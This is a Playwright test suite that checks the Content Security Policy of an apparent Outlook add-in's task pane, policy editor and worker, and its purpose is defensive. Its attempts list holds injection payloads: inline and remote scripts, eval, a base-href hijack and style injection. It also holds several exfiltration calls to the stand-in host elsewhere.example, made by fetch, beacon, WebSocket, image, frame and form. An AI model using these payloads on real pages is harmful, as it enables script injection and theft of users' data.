import type { Frame } from "playwright-core";

import { emulatedOutlook } from "./support/emulated-outlook";
import { policyPages } from "./support/policy-page";

const outlooks = emulatedOutlook();
const editors = policyPages();

type Attempt = readonly [attempt: string, refused: string, tried: () => void];

/** What a script or markup of somebody else would do, once it was in a page of ours. */
const attempts: readonly Attempt[] = [
  [
    "runs a script that stands in the page",
    "script-src-elem inline",
    () => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'forged'";
      document.body.append(script);
    },
  ],
  [
    "runs what stands in an attribute",
    "script-src-attr inline",
    () => {
      const button = "<button onclick=\"document.title = 'forged'\"></button>";
      document.body.insertAdjacentHTML("beforeend", button);
      (document.body.lastElementChild as HTMLElement).click();
    },
  ],
  [
    "runs a text as a script",
    "script-src eval",
    () => setTimeout(() => void eval("document.title = 'forged'")),
  ],
  [
    "fetches a script from elsewhere",
    "script-src-elem https://elsewhere.example/x.js",
    () => {
      document.body.append(
        Object.assign(document.createElement("script"), { src: "https://elsewhere.example/x.js" }),
      );
    },
  ],
  [
    "starts a worker of its own making",
    "worker-src blob",
    () => new Worker(URL.createObjectURL(new Blob(["0"]))),
  ],
  [
    "sends by a request",
    "connect-src https://elsewhere.example/?draft",
    () => void fetch("https://elsewhere.example/?draft").catch(() => {}),
  ],
  [
    "sends by a beacon",
    "connect-src https://elsewhere.example/?draft",
    () => navigator.sendBeacon("https://elsewhere.example/?draft"),
  ],
  [
    "sends by a socket",
    "connect-src wss://elsewhere.example/",
    () => new WebSocket("wss://elsewhere.example"),
  ],
  [
    "sends by the address of a picture",
    "img-src https://elsewhere.example/?draft",
    () =>
      document.body.insertAdjacentHTML("beforeend", "<img src=https://elsewhere.example/?draft>"),
  ],
  [
    "sends by the address of a frame",
    "frame-src https://elsewhere.example",
    () =>
      document.body.insertAdjacentHTML(
        "beforeend",
        "<iframe src=https://elsewhere.example></iframe>",
      ),
  ],
  [
    "lets our own addresses lead elsewhere",
    "base-uri https://elsewhere.example/",
    () => document.head.insertAdjacentHTML("beforeend", "<base href=https://elsewhere.example>"),
  ],
  [
    "draws over the page by a style in its markup",
    "style-src-elem inline",
    () => document.body.insertAdjacentHTML("beforeend", "<style>main { display: none }</style>"),
  ],
];

/** In the pane, Chromium first asks the page around it whether the frame may lead there, and stops. */
const byForm: Attempt = [
  "sends by a form",
  "form-action https://elsewhere.example/",
  () => {
    const form = "<form method=post action=https://elsewhere.example><input name=draft></form>";
    document.body.insertAdjacentHTML("beforeend", form);
    document.forms[document.forms.length - 1]?.submit();
  },
];

/** Does one thing after the other, and tells what the security policy said of each. */
async function refusals(frame: Frame, tries: readonly Attempt[], take: () => readonly string[]) {
  const said: (readonly string[])[] = [];
  for (const [attempt, , tried] of tries) {
    await frame.evaluate(tried);
    const violations = await firstOf(take);
    said.push([attempt, ...violations]);
  }
  return said;
}

/** Refusals are told a moment later. */
async function firstOf(take: () => readonly string[]): Promise<readonly string[]> {
  const end = Date.now() + 2000;
  while (Date.now() < end) {
    const taken = take();
    if (taken.length > 0) return taken;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return [];
}

const expected = (tries: readonly Attempt[], page: string) =>
  tries.map(([attempt, refused]) => [attempt, `${refused} at ${page}`]);

const titleOf = (frame: Frame) => frame.evaluate(() => document.title);

test("in the pane, nothing that was put into the page runs, and nothing leaves it", async () => {
  const outlook = await outlooks.open();
  const { page } = outlook;
  await page.getByRole("button", { name: "Second Look" }).click();
  await outlook.pane.getByRole("heading", { level: 1 }).waitFor();
  const frame = page.frames().find((each) => each.url().endsWith("/taskpane.html"))!;
  const title = await titleOf(frame);
  const said = await refusals(frame, attempts, () => outlook.violations.splice(0));
  expect(said).toEqual(expected(attempts, "/taskpane.html"));
  expect(await titleOf(frame)).toBe(title);
  outlook.requestsElsewhere.length = 0; // They were asked for, and refused.
  outlook.errors.length = 0; // The browser reported each of them.
});

test("in the policy editor, nothing that was put into the page runs, and nothing leaves it", async () => {
  const page = await editors.open();
  const title = await titleOf(page.mainFrame());
  const tries = [...attempts, byForm];
  const said = await refusals(page.mainFrame(), tries, editors.takeViolations);
  expect(said).toEqual(expected(tries, "/policy.html"));
  expect(await titleOf(page.mainFrame())).toBe(title);
});

test("in the worker of the policy editor, no text runs and nothing leaves it", async () => {
  const page = await editors.open();
  const worker = page.workers()[0] ?? (await page.waitForEvent("worker"));
  await worker.evaluate(() => void fetch("https://elsewhere.example/?draft").catch(() => {}));
  const place = new URL(worker.url()).pathname;
  const refused = "connect-src https://elsewhere.example/?draft";
  expect(await firstOf(editors.takeViolations)).toEqual([`${refused} at ${place}`]);
  await worker.evaluate(() => void setTimeout(() => void eval("0")));
  expect(await firstOf(editors.takeViolations)).toEqual([`script-src eval at ${place}`]);
});
